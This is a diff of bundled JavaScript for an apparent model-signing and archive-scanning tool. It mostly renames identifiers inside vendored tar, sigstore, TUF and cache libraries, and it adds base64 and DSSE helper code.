+var zr, Ur, Ds, Wr, Gr, Zr, Q, J, nt, De, qt, Ne, Ns, Ae, As, z, Mt, g, Qt, Bt, b, N, _, bi, Ie, L, S, _i, Oi, Is, Ti, Z, xi, Ce, Jt, Rt, C, jt, Yr, Kr, Vr, $r, Fe, Li, Xr, qr, A, Jr, ht, H, te, m, Ni, tt, Ai, ki, vi, ie, ke, Ut, Ht, Ii, Pt, at, U, ot, Y, zt, Ci, j, ee, Fi, ve, gt, Me, bt, _t, Be, et, Wt, jr, Fs, ks, vs, Ms, Bs, tn, se, K, sn, M, rn, zs, nn, Bi, Tt, Gt, Pi, re, Pe, ze, Ue, He, We, Ge, Ze, Ye, Ke, Us, hn, an, Hs, ln, cn, Ws, Gs, Hi, ne, dn, Ui, oe, Ve, un, F, mn, xt, Wi, pn, lt, En, wn, Sn, ct, yn, Rn, gn, Gi, bn, Lt, ft, On, Tn, xn, Ln, f, $e, Dt, Nn, Xi, qi, An, B, Nt, it, Zi, Zs, V, he, dt, Ys, p, st, ut, Yi, At, w, Xe, qe, Ki, Ks, Vs, ae, Vi, Qe, Yt, $, Je, It, je, ti, $s, In, le, $i, Xs, Cn, rt, mt, vn, Qi, Mn, Bn, Ct, Ji, zn, qs, ce, ei, ji, Un, Hn, ts, Qs, rr, Wn, tr, er, ir, is, sr, fe, ii, ss, si, rs, ns, os3, hs, pt, ri, as, es, q, de, ni, oi, Gn, hi, ue, pi, nr, li, me, W, pe, Et, Ft, Ee, ai, G, ls, ci, or, ds, us, fi, di, hr, cs, ui, lr, fs, wt, kt, Vn, $n, fr, dr, Xn, qn, Qn, Jn, Er, wr, ur, Sr, yr, Rr, jn, to, eo, mr, ms, ps, Ei, io, Es, so, ws, Se, St, no, gr, Ss, br, oo, _r, ys, Or, Vt, Tr, ho, ao, lo, yi, Lr, Dr, _s, Nr, Os, P, Ts, xs, gi, Ar, Ir, Re, Cr, Fr, Rs, yt, O, Ri, kr, $t, gs, bs, Ls, ge, be, _e, Oe, fo, Te, uo, mo, po, vr, Xt, ye, xe, Eo, wo, So, yo, Ro, go, bo, _o, vt, Oo, To;
 var init_index_min = __esm({
   "node_modules/tar/dist/esm/index.min.js"() {
     zr = Object.defineProperty;
@@ -21265,7 +21400,7 @@ var init_index_min = __esm({
     si = Symbol("onlstat");
     rs = Symbol("onread");
     ns = Symbol("onreadlink");
-    os2 = Symbol("openfile");
+    os3 = Symbol("openfile");
     hs = Symbol("onopenfile");
     pt = Symbol("close");
     ri = Symbol("mode");
@@ -21380,9 +21515,9 @@ var init_index_min = __esm({
           this.linkCache.set(t, this.absolute);
         }
         if (this[fe](), this.stat.size === 0) return this.end();
-        this[os2]();
+        this[os3]();
       }
-      [os2]() {
+      [os3]() {
         X.open(this.absolute, "r", (t, e) => {
           if (t) return this.emit("error", t);
           this[hs](e);
@@ -21445,7 +21580,7 @@ var init_index_min = __esm({
       [is]() {
         this[ns](X.readlinkSync(this.absolute));
       }
-      [os2]() {
+      [os3]() {
         this[hs](X.openSync(this.absolute, "r"));
       }
       [ii]() {
@@ -22759,7 +22894,7 @@ var init_index_min = __esm({
 // src/scan/tar.ts
 import { createReadStream as createReadStream2, createWriteStream } from "node:fs";
 import { mkdtemp, rm } from "node:fs/promises";
-import os3 from "node:os";
+import os4 from "node:os";
 import path3 from "node:path";
 import { once } from "node:events";
 function isTarName(p2) {
@@ -22810,7 +22945,7 @@ async function scanTar(archive, limits) {
       }
       let dest;
       try {
-        tmp ??= await mkdtemp(path3.join(os3.tmpdir(), "modelsign-scan-"));
+        tmp ??= await mkdtemp(path3.join(os4.tmpdir(), "modelsign-scan-"));
         dest = path3.join(tmp, "member.zip");
         await spool(src, dest);
       } catch (e) {
@@ -22938,8 +23073,8 @@ function formatsStage(formats, limits = {}) {
     const reports = [];
     const judge = (report2, shown, findings) => {
       if (report2) reports.push(report2);
-      const why = report2 && denied(report2, deny);
-      if (why) failures.push({ code: "FORMAT_DENIED", path: shown, message: `policy denies ${why} files` });
+      const why2 = report2 && denied(report2, deny);
+      if (why2) failures.push({ code: "FORMAT_DENIED", path: shown, message: `policy denies ${why2} files` });
       if (scan) {
         for (const x of findings) {
           if (severityRank(x.severity) < severityRank(failOn)) continue;
@@ -23704,12 +23839,12 @@ var require_crypto = __commonJS({
       return mod && mod.__esModule ? mod : { "default": mod };
     };
     Object.defineProperty(exports, "__esModule", { value: true });
-    exports.createPublicKey = createPublicKey3;
+    exports.createPublicKey = createPublicKey2;
     exports.digest = digest;
     exports.verify = verify;
     exports.bufferEqual = bufferEqual;
     var crypto_1 = __importDefault(__require("crypto"));
-    function createPublicKey3(key, type = "spki") {
+    function createPublicKey2(key, type = "spki") {
       if (typeof key === "string") {
         if (key.startsWith("-----")) {
           return crypto_1.default.createPublicKey(key);
@@ -26558,15 +26693,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path22) => path22.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path24) => path24.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path21 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path21].slice(0, -1);
+        const path23 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path23].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -26625,30 +26760,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path21) {
-        if (path21.length < 1) {
+      checkPath(path23) {
+        if (path23.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path21.slice(1).every((cert) => cert.isCA);
+        const validCAs = path23.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path21.length - 2; i >= 0; i--) {
-          if (!path21[i].issuer.equals(path21[i + 1].subject)) {
+        for (let i = path23.length - 2; i >= 0; i--) {
+          if (!path23[i].issuer.equals(path23[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path21.length; i++) {
-          const cert = path21[i];
+        for (let i = 0; i < path23.length; i++) {
+          const cert = path23[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -26752,13 +26887,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path21 = [];
+      let path23 = [];
       timestamps.forEach((timestamp) => {
-        path21 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path23 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path21[0], path21[1], trustMaterial.ctlogs),
-        signer: getSigner(path21[0])
+        scts: (0, sct_1.verifySCTs)(path23[0], path23[1], trustMaterial.ctlogs),
+        signer: getSigner(path23[0])
       };
     }
     function getSigner(cert) {
@@ -28324,7 +28459,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path21, data) {
+      static fromJSON(path23, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
@@ -28334,7 +28469,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path21,
+          path: path23,
           hashes,
           unrecognizedFields: rest
         });
@@ -29236,7 +29371,7 @@ var require_ast = __commonJS({
     var qmark = "[^/]";
     var star = qmark + "*?";
     var starNoEmpty = qmark + "+?";
-    var ID = 0;
+    var ID2 = 0;
     var AST = class {
       type;
       #root;
@@ -29252,7 +29387,7 @@ var require_ast = __commonJS({
       // set to true if it's an extglob with no children
       // (which really means one child of '')
       #emptyExt = false;
-      id = ++ID;
+      id = ++ID2;
       get depth() {
         return (this.#parent?.depth ?? -1) + 1;
       }
@@ -29909,11 +30044,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path21 = {
+    var path23 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path21.win32.sep : path21.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path23.win32.sep : path23.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -31141,9 +31276,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path21, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path23, metadata]) => ({
         ...acc,
-        [path21]: metadata.toJSON()
+        [path23]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -31152,9 +31287,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path21, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path23, metadata]) => ({
             ...acc,
-            [path21]: file_1.MetaFile.fromJSON(metadata)
+            [path23]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -31336,9 +31471,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path21, target]) => ({
+      return Object.entries(targets).reduce((acc, [path23, target]) => ({
         ...acc,
-        [path21]: target.toJSON()
+        [path23]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -31347,9 +31482,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path21, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path23, target]) => ({
             ...acc,
-            [path21]: file_1.TargetFile.fromJSON(path21, target)
+            [path23]: file_1.TargetFile.fromJSON(path23, target)
           }), {});
         }
       }
@@ -42073,7 +42208,7 @@ var require_polyfill = __commonJS({
       sep,
       toNamespacedPath
     } = __require("path");
-    var { fileURLToPath: fileURLToPath2 } = __require("url");
+    var { fileURLToPath: fileURLToPath3 } = __require("url");
     var defaultOptions = {
       dereference: false,
       errorOnExist: false,
@@ -42093,8 +42228,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path21 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath2(fileURLOrPath) : fileURLOrPath;
-      return path21;
+      const path23 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
+      return path23;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -42203,7 +42338,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path21) => resolve(path21).split(sep).filter(Boolean);
+    var normalizePathToArray = (path23) => resolve(path23).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -42454,9 +42589,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path21) => {
+    var pathExists = async (path23) => {
       try {
-        await fs2.access(path21);
+        await fs2.access(path23);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -42544,17 +42679,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path21 = __require("path");
+    var path23 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path21.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path23.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path21.join(cache, "tmp");
+      const tmpDir = path23.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path21.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path23.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -42563,7 +42698,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path21.join(cache, "tmp"), cb, opts);
+      return withTempDir(path23.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -42672,12 +42807,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path21 = __require("path");
+    var path23 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path21.join(
+      return path23.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -42685,7 +42820,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path21.join(cache, `content-v${contentVer}`);
+      return path23.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -43156,7 +43291,7 @@ var require_entry_index = __commonJS({
       writeFile: writeFile7
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path21 = __require("path");
+    var path23 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -43193,7 +43328,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir6(path21.dirname(target), { recursive: true });
+        await mkdir6(path23.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -43206,7 +43341,7 @@ var require_entry_index = __commonJS({
       };
       const write = async (tmp2) => {
         await writeFile7(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir6(path21.dirname(bucket), { recursive: true });
+        await mkdir6(path23.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -43230,7 +43365,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir6(path21.dirname(bucket), { recursive: true });
+        await mkdir6(path23.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -43280,17 +43415,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path21.join(indexDir, bucket);
+            const bucketPath2 = path23.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path21.join(bucketPath2, subbucket);
+                const subbucketPath = path23.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path21.join(subbucketPath, entry);
+                    const entryPath = path23.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -43359,13 +43494,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path21.join(cache, `index-v${indexV}`);
+      return path23.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path21.join.apply(
-        path21,
+      return path23.join.apply(
+        path23,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -44111,17 +44246,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path21, opt) {
+      constructor(path23, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path21 !== "string") {
+        if (typeof path23 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path21;
+        this[_path] = path23;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -44267,7 +44402,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path21, opt) {
+      constructor(path23, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -44277,7 +44412,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path21;
+        this[_path] = path23;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -44585,11 +44720,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path21) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path21})`);
+    function integrityError(sri, path23) {
+      const err = new Error(`Integrity verification failed for ${sri} (${path23})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path21;
+      err.path = path23;
       return err;
     }
   }
@@ -44757,7 +44892,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path21 = __require("path");
+    var path23 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
@@ -44877,7 +45012,7 @@ var require_write = __commonJS({
     }
     async function makeTmp(cache, opts) {
       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path21.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path23.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -44885,7 +45020,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path21.dirname(destination);
+      const destDir = path23.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -45774,9 +45909,9 @@ globstar while`, t, d, e, u2, m2), this.matchOne(t.slice(d), e.slice(u2), s3)) r
       Wt2.LRUCache = void 0;
       var er2 = typeof performance == "object" && performance && typeof performance.now == "function" ? performance : Date, as2 = /* @__PURE__ */ new Set(), ge2 = typeof process == "object" && process ? process : {}, ls2 = (n, t, e, s3) => {
         typeof ge2.emitWarning == "function" ? ge2.emitWarning(n, t, e, s3) : console.error(`[${e}] ${t}: ${n}`);
-      }, Lt2 = globalThis.AbortController, os7 = globalThis.AbortSignal;
+      }, Lt2 = globalThis.AbortController, os8 = globalThis.AbortSignal;
       if (typeof Lt2 > "u") {
-        os7 = class {
+        os8 = class {
           onabort;
           _onabort = [];
           reason;
@@ -45788,7 +45923,7 @@ globstar while`, t, d, e, u2, m2), this.matchOne(t.slice(d), e.slice(u2), s3)) r
           constructor() {
             t();
           }
-          signal = new os7();
+          signal = new os8();
           abort(e) {
             if (!this.signal.aborted) {
               this.signal.reason = e, this.signal.aborted = true;
@@ -48019,9 +48154,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path21 = __require("path");
-    var globify = (pattern) => pattern.split(path21.win32.sep).join(path21.posix.sep);
-    module.exports = (path22, options) => glob(globify(path22), options);
+    var path23 = __require("path");
+    var globify = (pattern) => pattern.split(path23.win32.sep).join(path23.posix.sep);
+    module.exports = (path24, options) => glob(globify(path24), options);
   }
 });
 
@@ -48053,7 +48188,7 @@ var require_rm2 = __commonJS({
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path21 = __require("path");
+    var path23 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -48069,7 +48204,7 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path21.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      const paths = await glob(path23.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
       return Promise.all(paths.map((p2) => rm5(p2, { recursive: true, force: true })));
     }
   }
@@ -48091,7 +48226,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path21 = __require("path");
+    var path23 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -48168,7 +48303,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path21.join(contentDir, "**"), {
+      const files = await glob(path23.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -48289,16 +48424,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm5(path21.join(cache, "tmp"), { recursive: true, force: true });
+      return rm5(path23.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path21.join(cache, "_lastverified");
+      const verifile = path23.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile7(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile4(path21.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile4(path23.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -48748,22 +48883,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path21 }) => path21.endsWith(".headers.authorization"),
+      predicate: ({ path: path23 }) => path23.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path21 }) => path21.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path23 }) => path23.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path21 }) => path21.endsWith(".headers.cookie"),
+      predicate: ({ path: path23 }) => path23.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path21 }) => path21.endsWith(".request"),
+      predicate: ({ path: path23 }) => path23.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -48773,7 +48908,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path21 }) => path21.endsWith(".response"),
+      predicate: ({ path: path23 }) => path23.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -48889,12 +49024,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path21 = rawPath.join(".").toLowerCase();
+        const path23 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path21 });
+        const shouldRun = predicate({ rawPath, path: path23 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path21 });
+          value = replace(value, { rawPath, path: path23 });
         }
         return value;
       }
@@ -55958,14 +56093,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path21) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path21)).toString();
+    function join2(base2, path23) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path23)).toString();
     }
-    function ensureTrailingSlash(path21) {
-      return path21.endsWith("/") ? path21 : path21 + "/";
+    function ensureTrailingSlash(path23) {
+      return path23.endsWith("/") ? path23 : path23 + "/";
     }
-    function removeLeadingSlash(path21) {
-      return path21.startsWith("/") ? path21.slice(1) : path21;
+    function removeLeadingSlash(path23) {
+      return path23.startsWith("/") ? path23.slice(1) : path23;
     }
   }
 });
@@ -56019,7 +56154,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path21 = __importStar(__require("path"));
+    var path23 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -56091,7 +56226,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path21.parse(targetFilePath);
+          const { dir, base: base2 } = path23.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -56118,7 +56253,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path21.join(this.dir, `${fileName}.json`);
+        const filePath = path23.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -56265,12 +56400,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path21.join(this.targetDir, filePath);
+        return path23.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path21.join(this.dir, `${encodedName}.json`);
+          const filePath = path23.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -56382,13 +56517,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path21 = await getTargetPath(tuf, targetPath);
+      const path23 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path21, "utf-8", (err, data) => {
+        fs_1.default.readFile(path23, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path21}`,
+              message: `error reading target ${path23}`,
               cause: err
             }));
           } else {
@@ -56414,19 +56549,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path21 = await tuf.findCachedTarget(targetInfo);
-      if (!path21) {
+      let path23 = await tuf.findCachedTarget(targetInfo);
+      if (!path23) {
         try {
-          path21 = await tuf.downloadTarget(targetInfo);
+          path23 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path21}`,
+            message: `error downloading target ${path23}`,
             cause: err
           });
         }
       }
-      return path21;
+      return path23;
     }
   }
 });
@@ -56574,6 +56709,176 @@ var require_dist12 = __commonJS({
   }
 });
 
+// src/util/base64.ts
+function isStrictBase64(s3) {
+  const n = s3.length;
+  if (n % 4 !== 0) return false;
+  let end = n;
+  if (n > 0 && s3.charCodeAt(n - 1) === 61) end = s3.charCodeAt(n - 2) === 61 ? n - 2 : n - 1;
+  for (let i = 0; i < end; i++) {
+    const c = s3.charCodeAt(i);
+    const ok = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 43 || c === 47;
+    if (!ok) return false;
+  }
+  return true;
+}
+function decodeBase64(s3, what, code = "SIG_MALFORMED") {
+  const clean5 = /\s/.test(s3) ? s3.replace(/\s+/g, "") : s3;
+  if (!isStrictBase64(clean5)) throw reject(code, `${what} is not valid base64`);
+  return Buffer.from(clean5, "base64");
+}
+var init_base64 = __esm({
+  "src/util/base64.ts"() {
+    "use strict";
+    init_errors();
+  }
+});
+
+// src/oms/dsse.ts
+function pae(payloadType, payload) {
+  const type = Buffer.from(payloadType, "utf8");
+  const head = Buffer.from(`DSSEv1 ${type.length} ${payloadType} ${payload.length} `, "utf8");
+  return Buffer.concat([head, payload]);
+}
+var IN_TOTO_PAYLOAD_TYPE;
+var init_dsse = __esm({
+  "src/oms/dsse.ts"() {
+    "use strict";
